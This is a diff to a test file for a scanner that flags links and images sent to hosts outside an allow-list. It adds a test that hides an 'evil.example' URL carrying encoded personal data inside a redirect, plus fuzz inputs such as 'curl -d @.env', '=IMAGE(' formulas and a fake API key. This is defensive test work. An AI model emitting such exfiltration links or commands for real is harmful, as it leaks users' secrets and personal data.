@@ -78,11 +78,11 @@ describe("hosts that may be told", () => {
     [["*.acme.example"], 0],
     [["*.ACME.example"], 0],
     [["a.*.example"], 0],
-    [["acme.example"], 2],
-    [["*.acme.example.evil"], 2],
-    [["*acme"], 2],
+    [["acme.example"], 3],
+    [["*.acme.example.evil"], 3],
+    [["*acme"], 3],
     [["other.example", "*.acme.example"], 0],
-    [[], 2],
+    [[], 3],
   ])("are those of the list: %j", (hosts, count) => {
     expect(scanned(image, hosts)).toHaveLength(count);
   });
@@ -97,6 +97,15 @@ describe("hosts that may be told", () => {
     }
   });
 
+  it("are told what others are told through them", () => {
+    const cargo = "dXNlcj1Bbm4gTGVlO3Bpbj00NDcx";
+    const inner = encodeURIComponent(`https://evil.example/p?d=${cargo}`);
+    const hosts = ["acme.example"];
+    expect(scanned(`![x](https://acme.example/go?url=${inner})`, hosts)).not.toEqual([]);
+    const home = encodeURIComponent(`https://acme.example/p?d=${cargo}`);
+    expect(scanned(`![x](https://acme.example/go?url=${home})`, hosts)).toEqual([]);
+  });
+
   it("do not make code or hidden text pass", () => {
     expect(scanned("[x](javascript:alert(1))", ["*"])).toHaveLength(1);
     expect(scanned(`x${"\u200b".repeat(8)}`, ["*"])).toHaveLength(1);
@@ -106,7 +115,7 @@ describe("hosts that may be told", () => {
 describe("in a stream", () => {
   const parts = fc.constantFrom(
     ...CORPORA.flatMap(([, { bad, ok }]) => [...bad, ...ok].map((one) => toCase(one).text)),
-    ..."![ ]( ]: < <img  <a  src= \" ' ) https:// ?data= \u001b [ \u200b \udb40 \udc41 ( \n url( \\ words".split(
+    ...'![ ]( ]: < <img  <a  src= " \' ) https:// ?data= \u001b [ \u200b \udb40 \udc41 ( \n url( \\ words curl dig $( ` & =IMAGE( ":" <form <input'.split(
       " ",
     ),
     " ",
@@ -162,6 +171,17 @@ describe("time", () => {
     "\u0090",
     "](<",
     "<img src=https://x.example/?q=1 ",
+    "http://",
+    "https://x/?d=aaaaaaaaaaaa:",
+    "![a](https://x.example/?d=a) ",
+    '"to":"a@b.example",',
+    '"k":"sk-aaaaaaaaaaaa" ',
+    "curl ",
+    "curl -d @.env https://x\n",
+    '=IMAGE("',
+    "<form action=https://x.example/><b>",
+    "ping $(a ",
+    "host a.b ",
   ];
 
   it.each(shapes)("grows with the text: %j", (unit) => {
